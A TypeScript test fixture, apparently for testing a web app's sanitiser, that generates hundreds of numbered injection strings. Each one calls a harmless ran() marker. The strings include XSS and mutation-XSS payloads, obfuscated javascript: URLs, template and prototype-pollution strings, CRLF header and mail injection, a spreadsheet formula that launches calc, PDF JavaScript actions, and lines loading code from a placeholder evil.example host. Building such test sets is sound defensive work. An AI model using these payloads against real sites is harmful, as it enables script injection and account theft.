/**
 * Injection texts, combined from tables: what they break out of, what they become, and their spelling. A text that runs calls `ran(number)`
 * with its own number.
 */

/** The call of a text that runs. */
const CALL = "ran(0)";

/** HTML that runs by itself or when touched. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<script>${CALL}`,
  `<script type=module>${CALL}</script>`,
  `<script async src="data:text/javascript,${CALL}"></script>`,
  `<script type="importmap">{"imports":{"react":"data:text/javascript,${CALL}"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["/logout"]}]}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror=ran\`0\`>`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}><summary>x</summary></details>`,
  `<video src=x onerror=${CALL}></video>`,
  `<body onload=${CALL}>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${CALL}>">`,
  `<style onload=${CALL}></style>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<link rel=stylesheet href="data:text/css,*{}" onload=${CALL}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="//evil.example/">`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<form><button formaction="javascript:${CALL}">x</button></form>`,
  `<x-y contenteditable oninput=${CALL}>x</x-y>`,
  `<p style="animation:x" onanimationstart=${CALL}>x</p>`,
  `<a href="javascript:${CALL}" autofocus>x</a>`,
] as const;

/** SVG, MathML and templates in HTML. */
const FOREIGN = [
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script>${CALL.replace("(", "&#40;")}</script></svg>`,
  `<svg><script href="data:text/javascript,${CALL}"/></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${CALL}"/><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>`,
  `<svg><title><style><img src=x onerror=${CALL}></style></title></svg>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${CALL}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<div><template shadowrootmode=open><script>${CALL}</script></template></div>`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:${CALL}"?>`,
  `<!DOCTYPE x [<!ENTITY y "${CALL}">]>&y;`,
  `<svg><![CDATA[><img src=x onerror=${CALL}>]]></svg>`,
] as const;

/** Markup that parsers read differently: it changes while it is sanitised. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<noscript><style></noscript><img src=x onerror=${CALL}></style>`,
  `<select><style></select><img src=x onerror=${CALL}></style>`,
  `<table><td><style></table><img src=x onerror=${CALL}></style>`,
  `<table><caption><svg><title><table><style></title></svg><img src=x onerror=${CALL}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<p><svg><style><!--</p><img src=x onerror=${CALL}>--></style></svg>`,
  `<math><mi><table><style><a title="</style><img src onerror=${CALL}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${CALL}>">`,
  `<title><img title="</title><img src=x onerror=${CALL}>">`,
  `<style><img title="</style><img src=x onerror=${CALL}>">`,
  `<iframe><img title="</iframe><img src=x onerror=${CALL}>">`,
  `<a><table><a href="javascript:${CALL}">x</a></table></a>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<<script>${CALL}//<</script>`,
  `<img <img src=x onerror=${CALL}>>`,
  `<img src="x" <!--" onerror=${CALL}>-->`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!-- --!><img src=x onerror=${CALL}>`,
  `<!a foo=>x="><img src=x onerror=${CALL}>">`,
  `</><img src=x onerror=${CALL}>`,
  `<?x ><img src=x onerror=${CALL}>?>`,
  `<p title="&quot;><img src=x onerror=${CALL}>">`,
  `<p title='\`"><img src=x onerror=${CALL}>'>`,
  `</p><p onmouseover=${CALL}>`,
  `</main></body></html><script>${CALL}</script>`,
  `</title></style></textarea></noscript></template></select></script><img src=x onerror=${CALL}>`,
] as const;

/** Endings of the surrounding context. */
const WAYS_OUT = [
  `">`,
  `'>`,
  "`>",
  ">",
  `\n">`,
  `"'>`,
  `-->`,
  `--!>`,
  `]]>`,
  `*/`,
  `}`,
  `</script>`,
  `</style>`,
  `</textarea>`,
  `</title>`,
  `</option></select>`,
  `</noscript>`,
  `"]}</script>`,
  `'}]</script>`,
  `\\u003c/script\\u003e`,
] as const;
const AFTER_IT = [`<img src=x onerror=${CALL}>`, `<svg onload=${CALL}>`] as const;

/** Attributes for a surrounding element. */
const ATTRIBUTES = [
  `onmouseover=${CALL}`,
  `onfocus=${CALL} autofocus tabindex=1`,
  `onerror=${CALL} src=x`,
  `onload=${CALL}`,
  `style=animation:x onanimationend=${CALL}`,
  `style="background:url(javascript:${CALL})"`,
  `href=javascript:${CALL}`,
  `formaction=javascript:${CALL} type=submit`,
  `srcdoc="<script>${CALL}</script>"`,
  `accesskey=x onclick=${CALL}`,
  `onpointerrawupdate=${CALL}`,
  `ontransitionend=${CALL}`,
  `data-page onclick=${CALL}`,
  `dangerouslySetInnerHTML={__html:"x"} onwheel=${CALL}`,
] as const;
const QUOTES = [`" `, `' `, "` ", `" /`, `x `, `"\n`] as const;

/** Script addresses in several spellings. */
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\tjavascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `\u001fjavascript:${CALL}`,
  `\u00a0javascript:${CALL}`,
  `\u200bjavascript:${CALL}`,
  `\ufeffjavascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `java\r\nscript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6a;avascript:${CALL}`,
  `java&Tab;script:${CALL}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${CALL}>*/`,
  `javascript://%0a${CALL}`,
  `javascript://es.lumbra.localhost/%0d%0a${CALL}`,
  `jav\u0061script:${CALL}`,
  `\\x6aavascript:${CALL}`,
  `\\u006aavascript:${CALL}`,
  `ｊavascript:${CALL}`,
  `javaſcript:${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `data:,${CALL}`,
  `blob:http://es.lumbra.localhost/1`,
  `//evil.example/x.js`,
  `file:///etc/passwd`,
] as const;

/** Endings of scripts, data and templates. */
const PROGRAMS = [
  `';${CALL};//`,
  `";${CALL};//`,
  `\`;${CALL};//`,
  `\\';${CALL};//`,
  `\\";${CALL};//`,
  `'-${CALL}-'`,
  `"-${CALL}-"`,
  `\${${CALL}}`,
  `\\${"`"}\${${CALL}}`,
  `*/${CALL}/*`,
  `\n${CALL}\n`,
  `\u2028${CALL}\u2029`,
  `\u2028</script><script>${CALL}</script>`,
  `//\r${CALL}`,
  `<!--${CALL}`,
  `<!--<script>${CALL}`,
  `<!--<script></script><script>${CALL}</script>`,
  `-->${CALL}`,
  `</script/x><script>${CALL}</script>`,
  `</script\n><script>${CALL}</script>`,
  `</scripT\t><script>${CALL}</script>`,
  `\\u003cscript\\u003e${CALL}`,
  `\\x3cscript\\x3e${CALL}`,
  `{"__proto__":{"ran":1}}`,
  `__proto__`,
  `constructor`,
  `constructor.constructor('${CALL}')()`,
  `toString`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${7*7}`,
  `<%= 7*7 %>`,
  `{%raw%}{{${CALL}}}`,
  `{{{__html:1}}}`,
  `{0}`,
  `{count, plural, other {#}}`,
  `{name}`,
  `<b>{name}</b>`,
  `'{'${CALL}'}'`,
  `["P",0]`,
  `[{"_1":-7},"ran"]`,
  `$&`,
  "$`",
  "$'",
  `$<mark>`,
  `%s%d%o%c`,
  `<!--$-->`,
  `<!--/$-->`,
  `<!--$?--><template id="B:0"></template>`,
  `</body>`,
  `<link rel="stylesheet" href="/x.css"/>`,
  ` nonce="x"`,
  `<script nonce="x" type="module" async="">import "/x.js"</script>`,
] as const;

/** Names that shadow properties of the document. */
const NAMES = ["body", "cookie", "currentScript", "getElementById", "documentElement", "__reactRouterContext", "location"].flatMap(
  (name) => [
    `<img name="${name}" src=x>`,
    `<form id="${name}"><input name=${name}></form>`,
    `<a id=${name}></a><a id=${name} name=x href="javascript:${CALL}"></a>`,
  ],
);

/** Lookalike characters and lone surrogates. */
const SIGNS = [
  `＜script＞${CALL}＜/script＞`,
  `<\u0000script>${CALL}</script>`,
  `<s\u0000cript>${CALL}</script>`,
  `<img\u0000src=x onerror=${CALL}>`,
  `<img\u000csrc=x\u000conerror=${CALL}>`,
  `<img\u00a0src=x onerror=${CALL}>`,
  `<scrıpt>${CALL}</scrıpt>`,
  `<SCRİPT>${CALL}</SCRİPT>`,
  `\ud800<script>${CALL}</script>`,
  `\u202e>tpircs<${CALL}`,
  `<a\u2029href="javascript:${CALL}">x</a>`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `%u003cscript%u003e${CALL}`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${CALL}&#x3e;`,
  `\u001b(J<script>${CALL}</script>`,
  `<img src=x onerror="&#x72;an&lpar;0&rpar;">`,
  `<img src=x one\u200brror=${CALL}>`,
  `<ImG sRc=x oNeRrOr=${CALL}>`,
] as const;

/** Extreme amounts. */
const MUCH = [
  `${"<b>".repeat(120)}<img src=x onerror=${CALL}>`,
  `${"<div title='".repeat(60)}"><img src=x onerror=${CALL}>`,
  `${'"'.repeat(200)}onload=${CALL}`,
  `<img ${"x ".repeat(150)}src=x onerror=${CALL}>`,
  `${"<svg><p>".repeat(40)}<style><img src=x onerror=${CALL}>`,
  `${"<!--".repeat(60)}--><img src=x onerror=${CALL}>`,
] as const;

/** Breaks in lines, headers, cells and PDFs. */
const LINES = [
  `x\r\nSet-Cookie: ran=0`,
  `x\r\n\r\n<script>${CALL}</script>`,
  `x\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=${CALL}>`,
  `x\r\n.\r\nMAIL FROM:<evil@evil.example>`,
  `=?utf-8?B?PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=?=`,
  `"ana" <evil@evil.example>, x`,
  `--boundary\r\nContent-Type: text/html`,
  `=cmd|' /C calc'!A0`,
  `+1-1`,
  `) /OpenAction << /S /JavaScript /JS (${CALL}) >> (`,
  `>> endobj 9 0 obj << /S /JavaScript /JS (${CALL}) >> endobj`,
  `\\) /AA << /O << /S /Launch /F (x) >> >>`,
] as const;

const written: readonly string[] = [
  ...ELEMENTS,
  ...FOREIGN,
  ...MUTATIONS,
  ...WAYS_OUT.flatMap((way) => AFTER_IT.map((after) => way + after)),
  ...QUOTES.flatMap((quote) => ATTRIBUTES.map((attribute) => quote + attribute)),
  ...ADDRESSES,
  ...PROGRAMS,
  ...NAMES,
  ...SIGNS,
  ...MUCH,
  ...LINES,
];

/** All of them, each with its number. */
export const PLANTED: readonly string[] = [...new Set(written)].map((text, index) =>
  text.replaceAll(CALL, `ran(${index})`).replaceAll("ran`0`", `ran\`${index}\``),
);

/** Those that PostgreSQL can store: no null character, no lone surrogate. */
export const STORED: readonly string[] = PLANTED.map((text) => text.toWellFormed().replaceAll("\u0000", "\ufffd"));

/** A harmless text of the same length, words and lines. */
export const harmless = (text: string): string => text.replace(/[^\p{L}\p{N}\s]/gu, "x");
